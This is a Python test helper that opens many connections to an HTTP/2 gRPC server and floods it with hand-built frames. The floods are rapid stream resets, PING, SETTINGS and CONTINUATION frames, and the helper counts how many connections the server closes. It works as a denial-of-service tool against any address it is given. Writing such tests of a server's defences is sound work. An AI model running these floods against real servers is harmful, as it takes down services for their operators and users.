"""An attacker that speaks HTTP/2 by frames of its own making: floods that no gRPC client can be made to send.

    python -m tests.router.api.grpc.http2_attacker ADDRESS ATTACK CONNECTIONS FRAMES [KEY]

A process of its own, so that what it costs is not the server's. It says `sent` once it has sent all; then it reads how
many connections are to be closed by the server, waits for that, 20 s at most, and says how many are.
"""

import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from typing import Final

from hpack import Encoder

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
ACK, END_HEADERS = 1, 4
CANCEL: Final = struct.pack(">I", 8)
BATCH: Final = 200
WAIT_S: Final = 20.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def header_block(key: str) -> bytes:
    """The same for every stream: nothing is put into the table that both ends keep."""
    fields = {":method": "POST", ":scheme": "http", ":path": "/holdfast.v1.Inference/Generate", ":authority": "x"}
    fields |= {"te": "trailers", "content-type": "application/grpc"}
    if key:
        fields["authorization"] = f"Bearer {key}"
    encoder = Encoder()
    encoder.header_table_size = 0
    return bytes(encoder.encode(list(fields.items())))


def resets(key: str, number: int) -> Iterator[bytes]:
    """So many at once, and then some hundreds a second until the connection is closed."""
    block, deadline = header_block(key), 0.0
    for stream in range(1, 2**31, 2):
        yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
        if stream > 2 * number and stream % (2 * BATCH) == 1:
            deadline = deadline or time.monotonic() + WAIT_S
            if time.monotonic() > deadline:
                return
            time.sleep(0.1)


def pings(key: str, number: int) -> Iterator[bytes]:
    return (frame(PING, 0, 0, bytes(8)) for _ in range(number))


def settings(key: str, number: int) -> Iterator[bytes]:
    return (frame(SETTINGS, 0, 0) for _ in range(number))


def continuations(key: str, number: int) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, header_block(key))
    one = b"\x00\x04x-ab" + bytes((127, 129, 1)) + b"v" * 256  # a field of 256 bytes that is kept in no table
    for _ in range(number):
        yield frame(CONTINUATION, 0, 1, one * 4)


def silence(key: str, number: int) -> Iterator[bytes]:
    return iter(())


ATTACKS: Final[dict[str, Callable[[str, int], Iterator[bytes]]]] = {
    "resets": resets,
    "pings": pings,
    "settings": settings,
    "continuations": continuations,
    "silence": silence,
}


class Connection:
    """Reads and acknowledges what the server sends, as it must to be let go on."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)))
        self._sending = threading.Lock()
        self.is_closed = threading.Event()
        self._is_greeted = threading.Event()
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()
        self._is_greeted.wait(WAIT_S)

    def send(self, data: bytes) -> None:
        with self._sending:
            self._socket.sendall(data)

    def flood(self, frames: Iterator[bytes]) -> None:
        batch: list[bytes] = []
        try:
            for one in frames:
                if self.is_closed.is_set():
                    return
                batch.append(one)
                if len(batch) == BATCH:
                    self.send(b"".join(batch))
                    batch.clear()
            self.send(b"".join(batch))
        except OSError:
            self.is_closed.set()

    def _read(self) -> None:
        buffer = b""
        try:
            while received := self._socket.recv(65536):
                buffer += received
                at = 0
                while len(buffer) >= at + 9 and len(buffer) >= at + 9 + (size := int.from_bytes(buffer[at : at + 3])):
                    kind, flags, payload = buffer[at + 3], buffer[at + 4], buffer[at + 9 : at + 9 + size]
                    at += 9 + size
                    self._is_greeted.set()
                    if kind in (SETTINGS, PING) and not flags & ACK:
                        self.send(frame(kind, ACK, 0, payload if kind == PING else b""))
                buffer = buffer[at:]
        except OSError:
            pass
        self.is_closed.set()
        self._is_greeted.set()


def main(address: str, attack: str, num_connections: str, num_frames: str, key: str = "") -> None:
    connections = [Connection(address) for _ in range(int(num_connections))]
    floods = [threading.Thread(target=one.flood, args=(ATTACKS[attack](key, int(num_frames)),)) for one in connections]
    for flood in floods:
        flood.start()
    for flood in floods:
        flood.join()
    print("sent", flush=True)
    wanted, deadline = int(sys.stdin.readline() or 0), time.monotonic() + WAIT_S
    while sum(one.is_closed.is_set() for one in connections) < wanted and time.monotonic() < deadline:
        time.sleep(0.05)
    print(sum(one.is_closed.is_set() for one in connections), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
